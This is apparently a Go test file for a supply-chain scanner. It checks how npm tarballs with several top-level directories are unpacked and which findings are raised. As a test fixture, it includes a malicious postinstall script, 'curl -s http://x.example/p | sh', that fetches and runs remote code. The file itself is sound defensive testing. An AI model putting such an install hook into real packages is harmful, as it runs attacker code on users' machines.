package artifact

import (
	"reflect"
	"testing"

	"github.com/pkgward/pkgward/internal/record"
)

// TestNPMAnyTopDirectory: npm strips the first component of every entry
// whatever it is, and the last copy of a path is the one installed.
func TestNPMAnyTopDirectory(t *testing.T) {
	const benign = `{"name":"left-pad","version":"1.0.0"}`
	const evil = `{"name":"left-pad","version":"1.0.0","scripts":{"postinstall":"curl -s http://x.example/p | sh"}}`
	tests := []struct {
		name    string
		file    string
		entries []ent
		paths   []string
		scripts map[string]string
		rules   []string // rule:severity, in order
	}{
		{
			name: "second_root_replaces_package.json", file: "x.tgz",
			entries: []ent{file("package/package.json", benign), file("package/index.js", "1"), file("zz/package.json", evil)},
			paths:   []string{"index.js", "package.json"},
			scripts: map[string]string{"postinstall": "curl -s http://x.example/p | sh"},
			rules:   []string{"archive-duplicate-path:medium", "archive-multiple-roots:high"},
		},
		{
			name: "second_root_without_package_prefix", file: "x.tar.gz",
			entries: []ent{file("package/package.json", benign), file("zz/package.json", evil)},
			paths:   []string{"package.json"},
			scripts: map[string]string{"postinstall": "curl -s http://x.example/p | sh"},
			rules:   []string{"archive-duplicate-path:medium", "archive-multiple-roots:high"},
		},
		{
			name: "second_root_adds_file_a_script_runs", file: "x.tgz",
			entries: []ent{file("package/package.json", `{"name":"a","scripts":{"install":"node setup/run.js"}}`), file("other/setup/run.js", "evil()")},
			paths:   []string{"package.json", "setup/run.js"},
			scripts: map[string]string{"install": "node setup/run.js"},
			rules:   []string{"archive-multiple-roots:high"},
		},
		{
			name: "second_root_adds_plain_file", file: "x.tgz",
			entries: []ent{file("package/package.json", benign), file("docs/readme.txt", "hello")},
			paths:   []string{"package.json", "readme.txt"},
			rules:   []string{"archive-multiple-roots:medium"},
		},
		{
			name: "same_copy_twice_is_not_a_change", file: "x.tgz",
			entries: []ent{file("package/package.json", benign), file("again/package.json", benign)},
			paths:   []string{"package.json"},
			rules:   []string{"archive-duplicate-path:medium", "archive-multiple-roots:medium"},
		},
		{
			name: "any_single_root_is_stripped", file: "x.tgz",
			entries: []ent{file("left-pad-1.0.0/package.json", evil), file("left-pad-1.0.0/lib/x.js", "1")},
			paths:   []string{"lib/x.js", "package.json"},
			scripts: map[string]string{"postinstall": "curl -s http://x.example/p | sh"},
			rules:   []string{},
		},
		{
			name: "file_outside_a_directory_is_not_installed", file: "x.tgz",
			entries: []ent{file("package/package.json", benign), file("evil.js", "x")},
			paths:   []string{"package.json"},
			rules:   []string{"archive-multiple-roots:low"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tree := readBytes(t, tc.file, tgzOf(t, tc.entries...), Limits{})
			if tree.Format != FormatNPM {
				t.Fatalf("format %q", tree.Format)
			}
			if got := paths(tree); !reflect.DeepEqual(got, tc.paths) {
				t.Errorf("paths %q, want %q", got, tc.paths)
			}
			if !reflect.DeepEqual(tree.Package.Scripts, tc.scripts) {
				t.Errorf("scripts %v, want %v", tree.Package.Scripts, tc.scripts)
			}
			got := []string{}
			for _, f := range tree.Findings {
				got = append(got, f.Rule+":"+f.Severity.String())
			}
			if !reflect.DeepEqual(got, tc.rules) {
				t.Errorf("findings %q, want %q\n%+v", got, tc.rules, tree.Findings)
			}
			for _, f := range tree.Findings {
				if f.Rule == RuleMultipleRoots && f.Severity == record.High && f.Evidence["install_time"] == nil {
					t.Errorf("high without the install-time paths: %+v", f)
				}
			}
		})
	}
}
